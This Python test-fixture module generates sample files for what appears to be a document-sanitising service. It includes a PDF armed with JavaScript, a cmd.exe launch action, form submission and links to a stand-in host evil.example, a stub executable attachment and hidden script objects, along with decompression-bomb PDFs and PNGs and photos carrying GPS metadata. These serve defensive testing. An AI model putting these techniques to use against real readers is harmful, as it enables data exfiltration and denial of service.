"""Files that members send, and that attackers do: small ones, made here."""

import io
import zipfile
import zlib
from pathlib import Path

from pikepdf import Array, Dictionary, Encryption, Name, Pdf, Stream, StreamDecodeLevel, String
from PIL import Image

HEIC = Path(__file__).parents[1] / "contracts" / "samples" / "photo.heic"
WORDS = "Acte de naissance de Canarine"
CANARY = "CANARY-IN-A-DOCUMENT"


def pdf_with(words: str = WORDS, *, pages: int = 1) -> Pdf:
    """Return a PDF that shows a line of text on each page."""
    pdf = Pdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    for _ in range(pages):
        pdf.add_blank_page(page_size=(595, 842))
        page = pdf.pages[-1].obj
        page.Resources = Dictionary(Font=Dictionary(F1=font))
        page.Contents = pdf.make_stream(f"BT /F1 24 Tf 72 700 Td ({words}) Tj ET".encode("latin-1"))
    return pdf


def bytes_of(pdf: Pdf, **options: object) -> bytes:
    """Return a PDF as a file."""
    written = io.BytesIO()
    pdf.save(written, **options)
    return written.getvalue()


def good_pdf(words: str = WORDS, *, pages: int = 1) -> bytes:
    """Return a file that is what it should be."""
    return bytes_of(pdf_with(words, pages=pages))


def armed_pdf() -> bytes:
    """Return a PDF with a script, actions of every kind, an attachment, a form, a note, a film and metadata."""
    pdf = pdf_with()
    page = pdf.pages[0].obj
    script = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String(f"app.alert('{CANARY}')")))
    actions = [
        Dictionary(S=Name.Launch, F=String("cmd.exe")),
        Dictionary(S=Name.URI, URI=String("http://evil.example/")),
        Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("http://evil.example/"))),
        Dictionary(S=Name.GoToR, F=String("other.pdf"), D=Array([0])),
        script,
    ]
    page.Annots = Array(
        [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 99, 99], A=action) for action in actions]
        + [Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 9, 9], RichMediaContent=Dictionary())]
    )
    page.AA = Dictionary(O=script)
    page.Metadata = pdf.make_stream(f"<x:xmpmeta>{CANARY}</x:xmpmeta>".encode())
    pdf.Root.OpenAction = script
    pdf.Root.AA = Dictionary(WC=script)
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(f"<xdp>{CANARY}</xdp>".encode()))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), script])))
    pdf.attachments["run.exe"] = b"MZ" + CANARY.encode()
    pdf.docinfo[Name.Author] = CANARY
    # Where no viewer looks: below a font, in an image's place, in a map of names, in a stream of its own.
    font = page.Resources.Font.F1
    font.Lurking = script
    page.Resources.XObject = Dictionary(
        JS=String(CANARY), Post=pdf.make_stream(CANARY.encode(), Subtype=Name.PS), Ref=Dictionary(Type=Name.Filespec)
    )
    page.Resources.Properties = Dictionary(MC0=Dictionary(Metadata=pdf.make_stream(CANARY.encode())))
    return bytes_of(pdf)


def filled_form() -> bytes:
    """Return a PDF whose words stand in a form's field and not on its page."""
    pdf = pdf_with("")
    look = pdf.make_stream(
        b"BT /F1 12 Tf 2 4 Td (Rempli par le membre) Tj ET",
        Type=Name.XObject,
        Subtype=Name.Form,
        BBox=[0, 0, 200, 20],
        Resources=pdf.pages[0].obj.Resources,
    )
    field = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("nom"), Rect=[72, 600, 272, 620], F=4)
    )
    field.AP = Dictionary(N=look)
    pdf.pages[0].obj.Annots = Array([field])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
    return bytes_of(pdf)


def encrypted_pdf(password: str) -> bytes:
    """Return a PDF that is encrypted; with no password to open it, only what may be done with it is restricted."""
    return bytes_of(pdf_with(), encryption=Encryption(user=password, owner="owner"))


def unfolding_pdf(mebibytes: int = 160) -> bytes:
    """Return a PDF of a few kilobytes whose page unfolds to so much."""
    pdf, packer = pdf_with(), zlib.compressobj(1)
    content = b"".join(packer.compress(bytes(1024 * 1024)) for _ in range(mebibytes)) + packer.flush()
    twice = zlib.compress(content, 9)
    pdf.pages[0].obj.Contents = Stream(pdf, twice, Filter=Array([Name.FlateDecode, Name.FlateDecode]))
    return bytes_of(pdf, stream_decode_level=StreamDecodeLevel.none, compress_streams=False)


def pdf_with_image(side: int) -> bytes:
    """Return a PDF that says that it shows a picture of `side` × `side` pixels."""
    pdf = pdf_with()
    picture = pdf.make_stream(
        photo("JPEG"), Type=Name.XObject, Subtype=Name.Image, Width=side, Height=side, BitsPerComponent=8
    )
    picture.ColorSpace, picture.Filter = Name.DeviceRGB, Name.DCTDecode
    pdf.pages[0].obj.Resources.XObject = Dictionary(Im0=picture)
    return bytes_of(pdf)


def photo(kind: str, *, size: tuple[int, int] = (90, 60), orientation: int = 6) -> bytes:
    """Return a photo, its left half red, that names its place and its maker; held sideways unless told otherwise."""
    picture = Image.new("RGB", size)
    picture.paste((255, 0, 0), (0, 0, size[0] // 2, size[1]))
    exif = Image.Exif()
    exif[0x010F], exif[0x0112] = CANARY, orientation
    place = exif.get_ifd(0x8825)
    place[1], place[2], place[3], place[4] = "N", (48.0, 51.0, 24.0), "E", (2.0, 21.0, 3.0)
    written = io.BytesIO()
    options = {"comment": CANARY.encode()} if kind == "JPEG" else {}
    picture.save(written, kind, exif=exif, **options)
    return written.getvalue()


def huge_png(side: int = 30_000) -> bytes:
    """Return a PNG of some hundred kilobytes that would fill gigabytes."""
    written = io.BytesIO()
    Image.new("1", (side, side)).save(written, "PNG", compress_level=9)
    return written.getvalue()


def archive() -> bytes:
    """Return a ZIP archive, such as a JAR or a document with macros is."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as packed:
        packed.writestr("run.js", CANARY)
    return written.getvalue()
